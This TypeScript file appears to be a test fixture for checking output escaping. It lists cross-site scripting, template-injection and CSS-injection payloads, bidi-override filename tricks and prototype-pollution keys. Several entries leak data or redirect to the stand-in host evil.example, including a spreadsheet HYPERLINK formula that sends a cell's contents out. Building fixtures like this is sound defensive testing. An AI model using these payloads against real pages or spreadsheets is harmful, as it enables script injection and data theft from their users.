/** Texts by which people have got scripts, markup, formulas or another order of letters onto pages. */

/** What a script does that ran although it was only text. */
const mark = 'globalThis.pwned=1';

const markup = [
  `<script>${mark}</script>`,
  `</script><script>${mark}</script>`,
  `<img src=x onerror="${mark}">`,
  `"><img src=x onerror=${mark}>`,
  `'><img src=x onerror='${mark}'>`,
  `"onmouseover="${mark}" autofocus onfocus="${mark}" x="`,
  `<svg onload=${mark}>`,
  `<svg><script>${mark}</script></svg>`,
  `<svg><animate onbegin=${mark} attributeName=x dur=1s>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${mark}>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<iframe src="javascript:parent.pwned=1"></iframe>`,
  `<object data="javascript:${mark}"></object>`,
  `<a href="javascript:${mark}">x</a>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<style>*{background:url(https://evil.example/x)}</style>`,
  `<form action=https://evil.example><button autofocus>x</button></form>`,
  `<input autofocus onfocus=${mark}>`,
  `<details open ontoggle=${mark}>`,
  `<template shadowrootmode=open><img src=x onerror=${mark}></template>`,
  `</title></textarea></style></noscript><img src=x onerror=${mark}>`,
  `<!--><img src=x onerror=${mark}>-->`,
  `<![CDATA[<img src=x onerror=${mark}>]]>`,
  `&lt;img src=x onerror=${mark}&gt;&#60;img&#62;`,
  `<plan-usage api-base="https://evil.example/"></plan-usage>`,
];

const templates = [
  `\${${mark}}`,
  `{{constructor.constructor('${mark}')()}}`,
  `<!--?lit$1$--><?lit$1$>`,
  `\`-${mark}-\``,
  `');${mark}//`,
  '{red|rich} {a} {b} {c} {@value} %s %d %c {0}',
];

const styles = [
  `red;background:url(https://evil.example/x)`,
  `} * { background: url(https://evil.example/x) } {`,
  `expression(${mark})`,
];

/** Names that every object knows, so that a look-up by them finds what nobody put there. */
export const names = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf'];

/** Texts that turn round what stands beside them, unless they are isolated. */
const turning = [
  '\u202Egnp.exe',
  '\u2067\u05D0\u05D1 123 (x)',
  '\u05D0 100 \u05D1\u2069\u2069\u202C',
  '\u200F\u0645\u0631\u062D\u0628\u0627 5.00',
];

/** What a spreadsheet would run; more of them in the tests of the export. */
const formula = '=HYPERLINK("https://evil.example/?"&A1,"x")';

/** What all others are compared with. */
export const harmless = 'a text like any other';

/** So many texts in one: a page takes seconds, and none of these needs a field of its own. */
const inOne = 6;

const joined = (texts: readonly string[]): string[] =>
  texts.flatMap((_text, at) => (at % inOne === 0 ? [texts.slice(at, at + inOne).join(' ')] : []));

/** Each is put into every text of every answer. */
export const payloads: readonly string[] = [
  harmless,
  ...joined([...markup, ...templates, ...styles]),
  `javascript:${mark}`,
  `data:text/html,<script>${mark}</script>`,
  ...names,
  ...turning,
  formula,
];
